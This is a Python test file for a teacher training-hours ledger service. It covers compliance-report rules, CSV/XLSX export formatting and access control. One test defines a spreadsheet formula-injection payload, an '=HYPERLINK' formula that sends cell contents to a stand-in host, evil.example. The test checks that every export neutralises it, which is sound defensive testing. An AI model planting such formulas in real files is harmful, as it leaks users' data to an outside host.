"""The compliance report (R10–R15, R18) and the balances projection it reads."""

from __future__ import annotations

import csv
import io
import random
import uuid

from openpyxl import load_workbook
from sqlalchemy import select

from services.ledger.balances import recompute
from services.ledger.models import LedgerEntry, TeacherBalance
from services.ledger.policy import RULE_NAMES
from tests.harness import Suite
from tests.ledger.conftest import District


async def report(district: District, headers: dict | None = None, **params: object) -> dict:
    response = await district.client.get(
        "/v1/reports/compliance",
        params={"year": 2027, **params},
        headers=headers or district.bureau(),
    )
    assert response.status_code == 200, response.text
    return response.json()


def rule(body: dict, name: str) -> dict:
    return next(r for r in body["rules"] if r["rule"] == name)


async def test_r14_share_of_teachers_with_90_centralized_hours(district: District) -> None:
    teachers = [await district.register() for _ in range(5)]
    await district.recognise(teachers[0], hours="90.0", mode="centralized")
    await district.recognise(teachers[1], hours="89.9", mode="centralized")
    await district.recognise(teachers[1], hours="30.0", mode="online")
    body = await report(district)
    assert body["teachers"] == 5
    assert body["r14"]["teachers"] == 1 and body["r14"]["share"] == "0.2000"
    assert body["r14"]["met"] is False  # 20 % < 22 %
    await district.recognise(teachers[2], hours="95.0", mode="centralized")
    assert (await report(district))["r14"]["met"] is True
    assert body["policy"]["version"] == "seeds-default/1"


async def test_r12_and_r13_shares_and_the_list_of_teachers_short(district: District) -> None:
    good = await district.register(name="王老师")
    short = await district.register(name="张老师")
    await district.recognise(good, hours="40.0", mode="centralized", level="district")
    await district.recognise(good, hours="40.0", mode="online", level="provincial")
    await district.recognise(
        good,
        hours="40.0",
        source="school_based",
        mode="school_based",
        level="school",
        category="mandatory",
    )
    await district.recognise(short, hours="20.0")
    body = await report(district)
    assert rule(body, "R12.annual_minimum") == {
        "rule": "R12.annual_minimum",
        "applicable": 2,
        "met": 1,
        "share": "0.5000",
    }
    assert rule(body, "R13.school_based_hours")["met"] == 1
    items = {i["name"]: i for i in body["shortfall"]["items"]}
    assert items["张老师"]["missing"]["R12.annual_minimum"] == "52.0"
    assert items["王老师"]["missing"] == {
        "R10.cycle_total": "240.0",
        "R13.school_based_cycle_credits": "8.0",
    }
    assert body["averages"]["year_hours"] == "70.0"


async def test_r11_and_r15_apply_to_new_teachers_and_trainers_only(
    district: District, suite: Suite
) -> None:
    import datetime as dt

    new = await district.register(hired_on=dt.date(2027, 9, 1))
    await district.register()
    await district.recognise(new, hours="60.0", occurred_on="2027-10-01")
    body = await report(district)
    assert rule(body, "R11.pre_service_hours") == {
        "rule": "R11.pre_service_hours",
        "applicable": 1,
        "met": 0,
        "share": "0.0000",
    }
    assert not any(r["rule"] == "R15.trainer_hours" for r in body["rules"])
    from services.ledger.models import TeacherProjection

    async with suite.apps["ledger"].state.database.sessions() as session:
        teacher = await session.get(TeacherProjection, new)
        teacher.is_trainer = True
        await session.commit()
    body = await report(district)
    assert rule(body, "R15.trainer_hours")["applicable"] == 1


async def test_r18_degree_share_per_stage(district: District) -> None:
    primary = [await district.register(stage="primary") for _ in range(2)]
    await district.register(stage="junior")
    await district.recognise(
        primary[0], source="degree_study", mode="degree", degree="bachelor", hours="20.0"
    )
    body = await report(district)
    by_stage = {r["stage"]: r for r in body["r18"]}
    assert by_stage["primary"]["holding"] == 1 and by_stage["primary"]["share"] == "0.5000"
    assert by_stage["primary"]["met"] is False
    assert by_stage["junior"]["teachers"] == 1 and by_stage["junior"]["holding"] == 0
    await district.recognise(
        primary[1], source="degree_study", mode="degree", degree="associate", hours="20.0"
    )
    assert {r["stage"]: r for r in (await report(district))["r18"]}["primary"]["met"] is True


async def test_report_scope_csv_and_xlsx(district: District) -> None:
    mine = await district.register(name="赵老师")
    await district.register(school_id=uuid.uuid4(), name="钱老师")
    await district.recognise(mine, hours="12.0")
    school_view = await report(district, headers=district.school())
    assert school_view["teachers"] == 1 and school_view["school_id"] == str(district.school_id)
    assert (await report(district))["teachers"] == 2
    other = await district.client.get(
        "/v1/reports/compliance",
        params={"school_id": str(uuid.uuid4())},
        headers=district.school(),
    )
    assert other.status_code == 403
    teacher = await district.client.get("/v1/reports/compliance", headers=district.teacher(mine))
    assert teacher.status_code == 403
    as_csv = await district.client.get(
        "/v1/reports/compliance",
        params={"year": 2027},
        headers=district.bureau() | {"Accept": "text/csv"},
    )
    assert as_csv.headers["content-type"].startswith("text/csv")
    assert as_csv.content.startswith("\ufeff".encode())  # UTF-8 as Chinese Windows reads it
    rows = list(csv.DictReader(io.StringIO(as_csv.content.decode("utf-8-sig"))))
    assert {r["姓名"]: r["年度学时"] for r in rows} == {"赵老师": "12.0", "钱老师": "0.0"}
    assert {r["姓名"]: r["是否达标"] for r in rows} == {"赵老师": "否", "钱老师": "否"}
    missing = next(r["未达标项（尚差）"] for r in rows if r["姓名"] == "赵老师")
    assert "年度学时" in missing and "R12" not in missing
    as_xlsx = await district.client.get(
        "/v1/reports/compliance", params={"year": 2027, "format": "xlsx"}, headers=district.bureau()
    )
    book = load_workbook(io.BytesIO(as_xlsx.content))
    assert book.sheetnames == ["概况", "教师学时"]
    sheet = book["教师学时"]
    assert [c.value for c in sheet[1]][:3] == ["姓名", "年度学时", "周期累计学时"]
    assert sheet["A1"].font.bold and sheet.freeze_panes == "A2"
    lines = {row[0]: row for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert sorted(lines) == ["赵老师", "钱老师"]
    assert lines["赵老师"][1] == 12 and isinstance(lines["赵老师"][1], (int, float))
    summary = dict(book["概况"].iter_rows(min_row=2, values_only=True))
    assert summary["教师人数"] == 2 and isinstance(summary["达标比例"], (int, float))


async def test_balances_projection_always_equals_a_recomputation(
    district: District, suite: Suite
) -> None:
    teachers = [await district.register() for _ in range(4)]
    rng = random.Random(4)
    posted = []
    for _ in range(40):
        entry = await district.recognise(
            rng.choice(teachers),
            hours=f"{rng.randint(1, 400) / 10:.1f}",
            mode=rng.choice(["centralized", "online", "blended", "school_based", "degree"]),
            level=rng.choice(["national", "provincial", "municipal", "district", "school"]),
            category=rng.choice(["mandatory", "self_selected"]),
            occurred_on=f"{rng.randint(2025, 2029)}-0{rng.randint(1, 9)}-1{rng.randint(0, 9)}",
        )
        posted.append(entry)
        if rng.random() < 0.3:
            victim = rng.choice(posted)
            await district.client.post(
                f"/v1/ledger/entries/{victim['id']}/reversal",
                json={"reason": "更正"},
                headers=district.bureau(),
            )
    async with suite.apps["ledger"].state.database.sessions() as session:
        entries = (
            await session.scalars(select(LedgerEntry).where(LedgerEntry.teacher_id.in_(teachers)))
        ).all()
        stored = (
            await session.scalars(
                select(TeacherBalance).where(TeacherBalance.teacher_id.in_(teachers))
            )
        ).all()
    expected = {key: vars(delta) for key, delta in recompute(entries).items()}
    actual = {
        (b.teacher_id, b.year): {
            name: getattr(b, name)
            for name in (
                "total",
                "centralized",
                "self_selected",
                "district_level",
                "school_based",
                "credits",
                "entries",
            )
        }
        for b in stored
    }
    assert actual == expected
    assert len(expected) > 5


async def test_report_counts_agree_with_each_teacher_evaluated_alone(district: District) -> None:
    """The shares counted in SQL equal policy.checks run on every teacher (the CSV)."""
    import datetime as dt

    rng = random.Random(9)
    teachers = [
        await district.register(hired_on=rng.choice([None, dt.date(2027, 9, 1)])) for _ in range(12)
    ]
    for teacher in teachers:
        for _ in range(rng.randint(0, 6)):
            await district.recognise(
                teacher,
                hours=f"{rng.randint(50, 450) / 10:.1f}",
                mode=rng.choice(["centralized", "online", "school_based"]),
                level=rng.choice(["provincial", "district", "school"]),
                category=rng.choice(["mandatory", "self_selected"]),
                occurred_on=f"{rng.choice([2026, 2027])}-10-0{rng.randint(1, 9)}",
            )
    body = await report(district)
    download = await district.client.get(
        "/v1/reports/compliance", params={"year": 2027, "format": "csv"}, headers=district.bureau()
    )
    rows = list(csv.DictReader(io.StringIO(download.content.decode("utf-8-sig"))))
    assert body["compliant"] == sum(r["是否达标"] == "是" for r in rows)
    for counted in body["rules"]:
        named = RULE_NAMES[counted["rule"]] + " "
        unmet = sum(
            any(item.startswith(named) for item in r["未达标项（尚差）"].split("；")) for r in rows
        )
        assert counted["applicable"] - counted["met"] == unmet, counted["rule"]
    assert body["shortfall"]["count"] == sum(r["是否达标"] == "否" for r in rows)


async def test_formula_names_are_inert_in_every_ledger_file(district: District) -> None:
    """A teacher named `=HYPERLINK(...)` and an entry described so: every CSV and XLSX the
    ledger writes shows the text, never a formula."""
    evil = '=HYPERLINK("http://evil.example/?d="&A1,"点我")'
    teacher = await district.register(name=evil)
    await district.recognise(teacher, hours="12.0", description="@" + evil)
    bureau = district.bureau()

    def xlsx_texts(content: bytes) -> list[str]:
        book = load_workbook(io.BytesIO(content))
        cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
        assert all(cell.data_type != "f" for cell in cells)
        return [c.value for c in cells if isinstance(c.value, str)]

    def csv_texts(content: bytes) -> list[str]:
        return [v for line in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for v in line]

    async def get(url: str, **params: str) -> bytes:
        response = await district.client.get(url, params={"year": "2027", **params}, headers=bureau)
        assert response.status_code == 200, response.text
        return response.content

    files = {
        "compliance.xlsx": xlsx_texts(await get("/v1/reports/compliance", format="xlsx")),
        "compliance.csv": csv_texts(await get("/v1/reports/compliance", format="csv")),
        "transcript.xlsx": xlsx_texts(
            await get(f"/v1/teachers/{teacher}/transcript", format="xlsx")
        ),
        "export.xlsx": xlsx_texts(await get("/v1/ledger/export", format="xlsx")),
        "export.csv": csv_texts(await get("/v1/ledger/export", format="csv")),
    }
    for name, texts in files.items():
        dangerous = [t for t in texts if t[:1] in ("=", "+", "-", "@", "\t", "\r")]
        assert dangerous == [], name
    assert "'" + evil in files["compliance.xlsx"] and "'" + evil in files["transcript.xlsx"]
    assert "'@" + evil in files["export.csv"]
